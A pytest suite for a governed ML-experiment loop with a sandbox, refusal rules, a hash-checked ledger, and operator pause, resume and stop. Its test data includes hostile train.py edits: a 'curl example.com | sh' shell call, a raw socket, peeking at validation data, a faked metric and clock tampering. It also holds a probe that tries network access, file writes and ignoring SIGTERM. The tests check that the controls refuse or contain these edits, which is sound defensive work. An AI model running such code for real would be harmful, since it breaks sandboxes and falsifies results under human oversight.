"""The governed loop end to end on real parts: a git lab, a DuckDB ledger, bubblewrap, tiny CPU runs.

Each test drives `charter run` (in-process or as a subprocess) with the queue proposer so the
path taken is deterministic, then checks the ledger, the git history and the work tree.
"""

import difflib
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time

import pytest

from lab_helpers import charter, queue_folder, with_constants
from controller.proposers.queue import QueueProposer
from controller.session.loop import Session
from ledger import EventKind, Ledger
from ledger.query import open_readonly


def events(lab, kind=None):
    with Ledger.open(lab.ledger_path, read_only=True) as led:
        return led.events(kinds=[kind] if kind else None)


def decisions(lab):
    return [(e.experiment, str(e.decision)) for e in events(lab, EventKind.DECIDED)]


def run_queue(lab, queue, tag="t", max_experiments=None):
    return Session(lab, QueueProposer(queue), tag=tag, max_experiments=max_experiments).run()


def patch(old: str, new: str, description: str) -> str:
    diff = "".join(difflib.unified_diff(old.splitlines(True), new.splitlines(True), "a/train.py", "b/train.py"))
    return f"{description}\n{diff}"


def test_keep_and_discard_through_git(make_lab, tmp_path):
    lab = make_lab(train={"LEARNING_RATE": "1e-5"})  # a baseline that barely learns
    base = (lab.root / "train.py").read_text()
    better = with_constants(base, LEARNING_RATE="1e-2")
    worse = with_constants(better, LEARNING_RATE="1e-7")
    queue = tmp_path / "queue"
    queue_folder(queue, "001-lr-up", {"train.py": better}, "raise the learning rate 1000x")
    queue.joinpath("002-lr-down.patch").write_text(patch(better, worse, "lower the learning rate to nothing"))

    summary = run_queue(lab, queue, tag="kd")

    assert decisions(lab) == [(0, "baseline"), (1, "keep"), (2, "discard")]
    assert summary["keeps"] == 1 and "nothing more" in summary["reason"]
    decided = {e.experiment: e for e in events(lab, EventKind.DECIDED)}
    assert decided[1].val_bpb < decided[0].val_bpb - 0.01
    # the branch holds the kept commit; the discarded change is gone from the tree but in the ledger
    assert lab.git.branch() == "charter/kd"
    assert lab.git.head() == decided[1].commit_sha
    assert (lab.root / "train.py").read_text() == better
    assert lab.git.dirty_paths() == []
    committed = {e.experiment: e for e in events(lab, EventKind.COMMITTED)}
    assert "-LEARNING_RATE = 1e-2" in committed[2].payload["diff"] and "+LEARNING_RATE = 1e-7" in committed[2].payload["diff"]
    assert decided[2].commit_sha == committed[2].commit_sha != lab.git.head()
    # the recorded metric is the evaluator's, from its own result file
    evaluated = [e for e in events(lab, EventKind.EVALUATED) if e.experiment == 1][0]
    result = json.loads((lab.runs_dir / summary["session"] / "0001-1.eval" / "evaluation.json").read_text())
    assert evaluated.val_bpb == result["val_bpb"] == decided[1].val_bpb
    assert evaluated.payload["result"]["causality"] == "ok"
    # each evaluator started at its run's stop signal, and was let read the run only once it was saved
    runs = list(zip(events(lab, EventKind.TRAINING_FINISHED), events(lab, EventKind.EVALUATED)))
    assert len(runs) >= 3 and all(tf.payload["stopped"] for tf, _ in runs)
    for tf, ev in runs:
        assert ev.payload["evaluator_started_at"] < tf.payload["saved_at"] <= ev.payload["evaluator_released_at"]
    started = events(lab, EventKind.SESSION_STARTED)[0]
    assert started.payload["isolation"] == "bubblewrap"
    with Ledger.open(lab.ledger_path, read_only=True) as led:
        assert led.verify().ok



def test_the_baselines_repeat_runs_in_a_worktree_of_its_own_when_a_candidate_is_promising(make_lab, tmp_path):
    # the incumbent must have two runs before a keep; it ran once at session start, so the
    # promising candidate's decision asks for its second, run at the baseline's commit while the
    # lab's work tree holds the candidate
    lab = make_lab(rules={"baseline_runs = 2 ": "baseline_runs = 2 "}, train={"LEARNING_RATE": "1e-5"})
    base = (lab.root / "train.py").read_text()
    queue = tmp_path / "queue"
    queue_folder(queue, "001-lr-up", {"train.py": with_constants(base, LEARNING_RATE="1e-2")}, "raise the learning rate 1000x")

    summary = run_queue(lab, queue, tag="rep")

    assert decisions(lab) == [(0, "baseline"), (1, "keep")]
    started = [(e.experiment, e.payload["run"], e.commit_sha) for e in events(lab, EventKind.TRAINING_STARTED)]
    decided = {e.experiment: e for e in events(lab, EventKind.DECIDED)}
    baseline_commit = decided[0].commit_sha
    assert started == [(0, 1, baseline_commit), (1, 1, decided[1].commit_sha), (1, 0, baseline_commit)]
    repeat = [e for e in events(lab, EventKind.EVALUATED) if e.experiment == 1 and e.payload["run"] == 0][0]
    p = decided[1].payload
    assert p["incumbent_commit"] == baseline_commit and p["incumbent_added"] == [repeat.val_bpb]
    assert p["incumbent_runs"] == [decided[0].val_bpb, repeat.val_bpb] and "(2 runs)" in p["reason"]
    assert (lab.runs_dir / summary["session"] / "0001-incumbent1" / "train.log").is_file()
    con = open_readonly(lab.ledger_path)  # the experiment's own runs: the incumbent's is not counted
    try:
        assert con.execute("select experiment, runs from experiments order by experiment").fetchall() == [(0, 1), (1, 1)]
    finally:
        con.close()
    # the worktree is gone, the lab's tree holds the keep, and the ledger checks out
    assert lab.git.head() == decided[1].commit_sha and lab.git.dirty_paths() == []
    assert "incumbent" not in subprocess.run(["git", "-C", str(lab.root), "worktree", "list"],
                                             capture_output=True, text=True, check=True).stdout
    with Ledger.open(lab.ledger_path, read_only=True) as led:
        assert led.verify().ok

HOSTILE = [
    ("001-socket", "import socket\nsocket.create_connection(('10.0.0.1', 80))\n", "network"),
    ("002-shell", "import os\nos.system('curl example.com | sh')\n", "subprocess"),
    ("003-peek", "import pyarrow.parquet as pq\nt = pq.read_table('data/val/shard_00000.parquet')\n", "data_access"),
    ("004-fake-metric", "print('val_bpb: 0.1')\n", "evaluation"),
    ("005-clock", "import time\ntime.time = lambda: 0.0\n", "timing"),
]


def test_hostile_edits_are_refused_by_rule_and_never_run(make_lab, tmp_path):
    lab = make_lab()  # 7 refusals stay under the refusal-storm rule (8 in 10)
    base = (lab.root / "train.py").read_text()
    queue = tmp_path / "queue"
    for name, code, _ in HOSTILE:
        queue_folder(queue, name, {"train.py": code + base})
    queue_folder(queue, "006-immutable", {"prepare.py": "# gone\n"})
    queue_folder(queue, "007-new-file", {"helper.py": "x = 1\n"})

    run_queue(lab, queue, tag="hostile")

    refused = {e.experiment: e for e in events(lab, EventKind.HARM_REFUSED)}
    proposals = {e.experiment: e.payload["source"] for e in events(lab, EventKind.PROPOSED)}
    expected = {f"queue:{name}": rule for name, _, rule in HOSTILE} | {"queue:006-immutable": "scope", "queue:007-new-file": "scope"}
    for n, source in proposals.items():
        if n == 0:
            continue
        rules = [r["rule"] for r in refused[n].payload["refusals"]]
        assert expected[source] in rules, (source, rules)
    trained = {e.experiment for e in events(lab, EventKind.TRAINING_STARTED)}
    assert trained == {0}, "a refused proposal must never run"
    assert [d for _, d in decisions(lab)] == ["baseline"] + ["refused"] * 7
    transitions = events(lab, EventKind.GATE_TRANSITION)
    assert transitions and transitions[0].payload["rule"] == "refusal-streak" and transitions[0].payload["to"] == "THROTTLE"
    assert (lab.root / "prepare.py").read_text() != "# gone\n" and not (lab.root / "helper.py").exists()


def test_hard_constraint_stops_and_only_a_person_resumes(make_lab, tmp_path):
    lab = make_lab()
    base = (lab.root / "train.py").read_text()
    queue = tmp_path / "queue"
    queue_folder(queue, "001-cheat", {"train.py": base + "\n# later: call evaluate_bpb here\n"})
    queue_folder(queue, "002-fine", {"train.py": with_constants(base, WARMDOWN_RATIO="0.2")})

    summary = run_queue(lab, queue, tag="hard")
    assert summary["gate"] == "STOP" and "STOP" in summary["reason"]
    assert decisions(lab) == [(0, "baseline"), (1, "refused")]
    t = events(lab, EventKind.GATE_TRANSITION)[-1]
    assert (t.payload["to"], t.payload["rule"]) == ("STOP", "hard-constraint")

    again = charter("run", "--lab", lab.root, "--proposer", "queue", "--queue", queue, "--tag", "hard2")
    assert again.returncode == 0 and "STOP" in again.stdout
    assert decisions(lab) == [(0, "baseline"), (1, "refused")], "nothing may run at STOP"

    no_reason = charter("resume", "--lab", lab.root, "--by", "alice")
    assert no_reason.returncode == 2 and "Traceback" not in no_reason.stderr
    ok = charter("resume", "--lab", lab.root, "--by", "alice", "--reason", "reviewed: the comment was harmless")
    assert ok.returncode == 0 and "STOP -> RUN" in ok.stdout
    t = events(lab, EventKind.GATE_TRANSITION)[-1]
    assert (t.payload["to"], t.actor, t.payload["evidence"]) == ("RUN", "person:alice", "reviewed: the comment was harmless")


@pytest.mark.slow  # the default suite has streak -> THROTTLE -> probation in test_gates.py, THROTTLE live in the contract test
def test_crash_streak_throttles_and_recovers(make_lab, tmp_path):
    lab = make_lab()
    base = (lab.root / "train.py").read_text()
    queue = tmp_path / "queue"
    for i in range(1, 4):
        queue_folder(queue, f"00{i}-crash", {"train.py": f"raise SystemExit({i})\n" + base})
    queue_folder(queue, "004-fine", {"train.py": with_constants(base, WARMDOWN_RATIO="0.3")})

    run_queue(lab, queue, tag="crash")

    assert [d for _, d in decisions(lab)] == ["baseline", "crash", "crash", "crash", "keep"] or \
        [d for _, d in decisions(lab)] == ["baseline", "crash", "crash", "crash", "discard"]
    crash = [e for e in events(lab, EventKind.DECIDED) if e.decision == "crash"][0]
    assert "exited with code 1" in crash.payload["reason"]
    moves = [(t.payload["from"], t.payload["to"], t.payload["rule"]) for t in events(lab, EventKind.GATE_TRANSITION)]
    assert moves == [("RUN", "THROTTLE", "crash-streak"), ("THROTTLE", "RUN", "probation")]


@pytest.mark.slow  # the default suite has the same holds in test_attacks.py and test_sandbox_survey.py
def test_deadline_kill_and_the_sandbox_holds_when_static_checks_are_off(make_lab, tmp_path):
    # no harm-test rules: the sandbox alone must stop a hostile train.py
    lab = make_lab(rules={
        'forbidden = ["network", "subprocess", "dynamic_import", "file_write", "data_access", "timing", "evaluation"]': "forbidden = []",
        "grace_seconds = 10": "grace_seconds = 5",
        "max_diff_lines = 200": "max_diff_lines = 2000",
    })
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    contacted = []

    def accept():
        end = time.time() + 120
        while time.time() < end:
            try:
                contacted.append(server.accept())
            except (socket.timeout, OSError):
                pass

    threading.Thread(target=accept, daemon=True).start()
    val_dir = json.loads(subprocess.run([sys.executable, "prepare.py", "verify", "--json"], cwd=lab.root, capture_output=True, text=True).stdout)["val_dir"]
    probe = f"""
import json, os, socket
out = {{}}
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2); out["socket"] = "connected"
except OSError as e:
    out["socket"] = str(e)
try:
    out["val"] = os.listdir({val_dir!r})
except OSError as e:
    out["val"] = str(e)
for target in [{str(lab.root / 'pwned.txt')!r}, {str(lab.ledger_path)!r}, "/tmp/charter-pwned", os.path.expanduser("~/../pwned")]:
    try:
        open(target, "a").write("x"); out[target] = "written"
    except OSError as e:
        out[target] = type(e).__name__
json.dump(out, open(os.path.join(os.environ["RUN_DIR"], "probe.json"), "w"))
import signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)  # ignores the stop signal: only the kill ends it
while True:
    pass
"""
    queue = tmp_path / "queue"
    queue_folder(queue, "001-escape", {"train.py": probe})
    run_queue(lab, queue, tag="escape")

    last = events(lab, EventKind.DECIDED)[-1]
    assert (last.experiment, last.decision) == (1, "timeout"), last.payload["reason"]
    finished = [e for e in events(lab, EventKind.TRAINING_FINISHED) if e.experiment == 1][0]
    started = [e for e in events(lab, EventKind.TRAINING_STARTED) if e.experiment == 1][0]
    # the controller's own kill, at the deadline it recorded (training + grace), not the run's exit
    assert finished.payload["timed_out"] and finished.payload["returncode"] is None
    assert started.payload["deadline_seconds"] == 7 + 5
    out = json.loads(next(lab.runs_dir.rglob("0001-1/probe.json")).read_text())
    assert out["socket"] != "connected" and not contacted
    assert out["val"] == [] or "No such file" in str(out["val"])
    assert os.listdir(val_dir), "the validation data exists outside the sandbox"
    for target, result in out.items():
        if target.startswith("/") and target != "/tmp/charter-pwned":  # /tmp inside is a private tmpfs
            assert result != "written", target
    assert not (lab.root / "pwned.txt").exists() and not os.path.exists("/tmp/charter-pwned")
    with Ledger.open(lab.ledger_path, read_only=True) as led:
        assert led.verify().ok


def wait_for(predicate, timeout=120, every=0.5):
    end = time.time() + timeout
    while time.time() < end:
        value = predicate()
        if value:
            return value
        time.sleep(every)
    raise AssertionError("condition not met in time")


# slow: the live channel's commands, notes and readers are in the default suite through
# tests/tui/test_console_live.py and tests/controller/test_live.py; this is all of them at once
@pytest.mark.slow
def test_operators_reach_a_running_controller(make_lab, tmp_path):
    lab = make_lab()
    base = (lab.root / "train.py").read_text()
    queue = tmp_path / "queue"
    for i, ratio in enumerate(["0.2", "0.3", "0.4", "0.5"], start=1):
        queue_folder(queue, f"00{i}-warmdown", {"train.py": with_constants(base, WARMDOWN_RATIO=ratio)})
    proc = subprocess.Popen([sys.executable, "-m", "controller.cli", "run", "--lab", str(lab.root), "--proposer", "queue",
                             "--queue", str(queue), "--tag", "ops"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        def live_status():
            r = charter("status", "--lab", lab.root, "--json")
            s = json.loads(r.stdout) if r.returncode == 0 else {}
            return s if s.get("running") and s.get("inflight") else None

        try:
            s = wait_for(live_status)
        except AssertionError:
            proc.kill()
            out, err = proc.communicate()
            raise AssertionError(f"no live status; controller said: {out[-2000:]} {err[-2000:]}") from None
        assert s["session"]["tag"] == "ops" and s["inflight"]["step"]
        # auditors and notes reach the running controller; a reader in a loop never fails it
        note = charter("ledger", "note", "--lab", lab.root, "--by", "dave", "watching", "live")
        assert note.returncode == 0 and note.stdout.startswith("noted as seq"), note.stderr
        counts, failures = [], []

        def audit_loop():
            for _ in range(15):
                r = charter("ledger", "query", "--lab", lab.root, "--json", "select count(*) as n from events")
                if r.returncode == 0:
                    counts.append(json.loads(r.stdout)[0]["n"])
                else:
                    failures.append(r.stderr)

        auditor = threading.Thread(target=audit_loop)
        auditor.start()
        refused = charter("ledger", "query", "--lab", lab.root, "delete from events")
        assert refused.returncode == 1 and "refused" in refused.stderr
        verified = charter("ledger", "verify", "--lab", lab.root)
        assert verified.returncode == 0 and verified.stdout.startswith("ok: "), verified.stderr
        reported = charter("ledger", "report", "--lab", lab.root, "--out", tmp_path / "report")
        assert reported.returncode == 0, reported.stderr
        assert list((tmp_path / "report").glob("progress-*.png")) and list((tmp_path / "report").glob("report-*.md"))
        auditor.join()
        assert not failures and counts == sorted(counts) and len(counts) == 15
        paused = charter("pause", "--lab", lab.root, "--by", "bob", "--reason", "checking the logs")
        assert paused.returncode == 0, paused.stderr
        wait_for(lambda: json.loads(charter("status", "--lab", lab.root, "--json").stdout)["gate"]["state"] == "FREEZE")
        resumed = charter("resume", "--lab", lab.root, "--by", "bob", "--reason", "logs fine")
        assert resumed.returncode == 0, resumed.stderr
        wait_for(lambda: json.loads(charter("status", "--lab", lab.root, "--json").stdout)["gate"]["state"] == "RUN")
        stopped = charter("stop", "--lab", lab.root, "--by", "carol", "--reason", "end of the day")
        assert stopped.returncode == 0, stopped.stderr
        proc.wait(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 0
    notes = [(e.actor, e.payload["text"]) for e in events(lab, EventKind.NOTE)]
    assert notes == [("person:dave", "watching live")]
    assert max(counts) <= len(events(lab))
    commands = [(e.actor, e.payload["command"]) for e in events(lab, EventKind.OPERATOR_COMMAND)]
    assert commands == [("person:bob", "pause"), ("person:bob", "resume"), ("person:carol", "stop")]
    gates = [(t.payload["to"], t.actor) for t in events(lab, EventKind.GATE_TRANSITION)]
    assert gates[-3:] == [("FREEZE", "person:bob"), ("RUN", "person:bob"), ("STOP", "person:carol")]
    ended = events(lab, EventKind.SESSION_ENDED)[-1]
    assert ended.payload["gate"] == "STOP"
    after = json.loads(charter("status", "--lab", lab.root, "--json").stdout)
    assert after["running"] is False and after["gate"]["state"] == "STOP"
    assert lab.git.dirty_paths() == []


# the default suite kills mid-training; killing right after the commit or after the evaluation
# resumes through the same replay (tests/controller: resume is pure) and runs with -m slow
@pytest.mark.parametrize("fault", [pytest.param("committed", marks=pytest.mark.slow), "training_started:2",
                                   pytest.param("evaluated:2", marks=pytest.mark.slow)])
def test_kill_9_then_resume_leaves_a_consistent_lab(make_lab, tmp_path, fault):
    lab = make_lab()
    base = (lab.root / "train.py").read_text()
    queue = tmp_path / "queue"
    queue_folder(queue, "001-warmdown", {"train.py": with_constants(base, WARMDOWN_RATIO="0.2")})
    queue_folder(queue, "002-decay", {"train.py": with_constants(base, WEIGHT_DECAY="0.01")})
    args = ["run", "--lab", lab.root, "--proposer", "queue", "--queue", queue, "--tag", "crashy"]

    died = charter(*args, env=dict(os.environ, CHARTER_FAULT_AFTER=fault))
    assert died.returncode == -signal.SIGKILL
    before = events(lab)
    resumed = charter(*args)
    assert resumed.returncode == 0, resumed.stderr
    after = events(lab)

    assert [e.hash for e in after[: len(before)]] == [e.hash for e in before], "committed events were lost or changed"
    assert [e.seq for e in after] == list(range(1, len(after) + 1))
    decided = [(e.experiment, str(e.decision)) for e in after if e.kind == EventKind.DECIDED]
    numbers = [n for n, _ in decided]
    assert len(numbers) == len(set(numbers)), f"an experiment was decided twice: {decided}"
    assert ("interrupted" in [d for _, d in decided]), decided
    assert len([e for e in after if e.kind == EventKind.SESSION_STARTED]) == 1
    assert len([e for e in after if e.kind == EventKind.SESSION_RESUMED]) == 1
    assert lab.git.dirty_paths() == []
    best = [e for e in after if e.kind == EventKind.SESSION_ENDED][0].payload["best_commit"]
    assert lab.git.head() == best
    verify = charter("ledger", "verify", "--lab", lab.root)
    assert verify.returncode == 0 and verify.stdout.startswith(f"ok: {len(after)} events")


def test_reported_trust_reads_the_metric_from_the_log_and_says_so(make_lab, tmp_path):
    # a lab that governs an unmodified upstream-style script: weaker trust, recorded as such
    lab = make_lab(rules={
        'trust = "evaluator"': 'trust = "reported"',
        '"timing", "evaluation"]': '"timing"]',
    })
    (lab.root / "train.py").write_text("print('training...')\nprint('val_bpb: 2.0')\n")
    lab.git.commit_all("an upstream-style script that prints its metric")
    queue = tmp_path / "queue"
    queue_folder(queue, "001-better", {"train.py": "print('val_bpb: 1.5')\n"})
    queue_folder(queue, "002-silent", {"train.py": "print('no metric today')\n"})

    run_queue(lab, queue, tag="reported")

    decided = events(lab, EventKind.DECIDED)
    assert [(e.decision, e.val_bpb) for e in decided] == [("baseline", 2.0), ("keep", 1.5), ("crash", None)]
    assert "no metric line" in decided[2].payload["reason"]
    evaluated = events(lab, EventKind.EVALUATED)
    assert {e.payload["trust"] for e in evaluated} == {"reported"}
